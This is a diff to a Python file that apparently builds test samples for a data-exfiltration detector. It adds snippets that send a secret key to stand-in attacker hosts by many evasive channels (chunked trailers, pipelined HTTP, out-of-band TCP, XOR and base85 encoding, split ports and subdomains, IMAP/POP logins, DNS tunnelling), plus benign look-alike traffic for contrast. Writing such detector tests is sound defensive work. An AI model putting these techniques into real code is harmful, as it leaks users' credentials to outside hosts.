@@ -221,6 +221,133 @@ post("dark", os.urandom(600))
 """
 
 
+# Ways by which bait leaves, each by a host of its own name; none waits for an answer that never
+# comes.
+THEFTS: dict[str, str] = {
+    "nameless": """
+    with ssl._create_unverified_context().wrap_socket(reach("nameless", 8443)) as sock:
+        sock.sendall(b"GET /x?k=" + KEY.encode() + b" HTTP/1.0\\r\\n\\r\\n")
+        return sock.recv(12).decode()
+""",
+    "trailer": """
+    return say("trailer", 8080, b"POST /t HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+               b"3\\r\\nabc\\r\\n0\\r\\nX-Sum: " + KEY.encode() + b"\\r\\n\\r\\n")
+""",
+    "chunks": """
+    return say("chunks", 80, b"POST /t HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+               b"3;" + KEY.encode() + b"\\r\\nabc\\r\\n0\\r\\n\\r\\n")
+""",
+    "pipelined": """
+    return say("pipelined", 80, b"GET /a HTTP/1.1\\r\\n\\r\\nGET /b?" + KEY.encode()
+               + b" HTTP/1.1\\r\\n\\r\\n")
+""",
+    "old": """
+    return say("old", 81, b"POST /h HTTP/1.0\\r\\n\\r\\n" + KEY.encode())
+""",
+    "second": """
+    return say("second", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + KEY.encode())
+""",
+    "urgent": """
+    with reach("urgent", 4446) as sock:
+        for byte in KEY.encode():
+            sock.send(bytes([byte]), socket.MSG_OOB)
+""",
+    "keyed": """
+    key = b"a longer key 16!"
+    body = bytes(byte ^ key[at % 16] for at, byte in enumerate(b"keys: " + KEY.encode()))
+    return post("keyed", body)
+""",
+    "based": """
+    return post("based", json.dumps({"d": base64.b85encode(KEY.encode()).decode()}).encode())
+""",
+    "zipped": """
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
+        archive.writestr("keys", KEY)
+    return post("zipped", file.getvalue())
+""",
+    "ports": """
+    for at in range(0, len(KEY), 8):
+        with socket.create_connection(("evil-ports.xyz", 7100 + at), timeout=10) as sock:
+            sock.sendall(KEY[at:at + 8].encode())
+""",
+    "hosts": """
+    for at in range(0, len(KEY), 8):
+        urllib.request.urlopen(f"http://h{at}.evil-hosts.xyz/?d=" + KEY[at:at + 8]).close()
+""",
+    "headers": """
+    for at in range(0, len(KEY), 8):
+        part = base64.b64encode(KEY[at:at + 8].encode()).decode()
+        asked = urllib.request.Request("http://headers.evil-host.xyz/", headers={"X-Id": part})
+        urllib.request.urlopen(asked).close()
+""",
+    "imap": """
+    import imaplib
+    return imaplib.IMAP4("imap.evil-host.xyz", timeout=10).login("thief", KEY)[0]
+""",
+    "pop": """
+    import poplib
+    mail = poplib.POP3("pop.evil-host.xyz", timeout=10)
+    mail.user("thief")
+    return mail.pass_(KEY).decode()
+""",
+    "resolver": """
+    coded = base64.b64encode(b"keys: " + KEY.encode())
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.sendto(coded, ("45.9.148.53", 53))
+    with socket.create_connection(("45.9.148.54", 53), timeout=10) as sock:
+        sock.sendall(coded)
+""",
+    "asked": """
+    for at in range(0, len(KEY), 20):
+        name = f"{at}.{KEY[at:at + 20].encode().hex()}.evil-asked.xyz"
+        url = f"https://dns.google/resolve?type=TXT&name={name}"
+        with urllib.request.urlopen(url) as answer:
+            status = json.load(answer)["Status"]
+    return status
+""",
+}
+THIEVING = """
+import base64, urllib.request, zipfile
+def reach(name, port):
+    return socket.create_connection((f"{name}.evil-host.xyz", port), timeout=10)
+def say(name, port, data):
+    with reach(name, port) as sock:
+        sock.sendall(data)
+        sock.shutdown(socket.SHUT_WR)
+        return sock.recv(12).decode()
+def post(name, body):
+    return urllib.request.urlopen(f"https://{name}.evil-host.xyz/", body, timeout=10).status
+"""
+# What only looks like it: the same acts without anything that was stolen.
+HONEST = """
+import base64, gzip, hashlib, json, os, platform, socket, urllib.error, urllib.request, uuid
+def send(url, body=None, **headers):
+    named = {name.replace("_", "-"): value for name, value in headers.items()}
+    asked = urllib.request.Request(url, body, named)
+    try:
+        with urllib.request.urlopen(asked, timeout=10) as answer:
+            return answer.status
+    except urllib.error.HTTPError as error:
+        return error.code
+about = {"id": str(uuid.uuid4()), "machine": hashlib.sha256(b"x").hexdigest()}
+about |= {"python": platform.python_version(), "system": platform.platform()}
+about["CI"] = "CI" in os.environ
+got = [send("https://telemetry.fair-host.com/v1", json.dumps(about).encode())]
+envelope = gzip.compress(json.dumps(about | {"modules": ["a", "b"] * 40}).encode())
+got.append(send("https://o1.ingest.fair-host.com/envelope/", envelope, Content_Encoding="gzip"))
+metadata = "http://169.254.169.254/latest/api/token"
+got.append(send(metadata, b"", X_aws_ec2_metadata_token_ttl_seconds="1"))
+got.append(send("https://pictures.fair-host.com/up", b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(900)))
+got.append(send("https://sums.fair-host.com/", base64.b64encode(hashlib.sha512(b"x").digest())))
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as clock:
+    clock.sendto(bytes([0x1B]) + bytes(47), ("pool.ntp.org", 123))
+with socket.create_connection(("mail.fair-host.com", 143), timeout=10) as mail:
+    got.append(mail.recv(4).decode())
+print(json.dumps(got))
+"""
+
+
 def source_of(clients: Mapping[str, str], prelude: str = "") -> str:
     """A module that lets each client do its work, and prints what each got."""
     works = "".join(f"@client\ndef {name}():{work}" for name, work in clients.items())
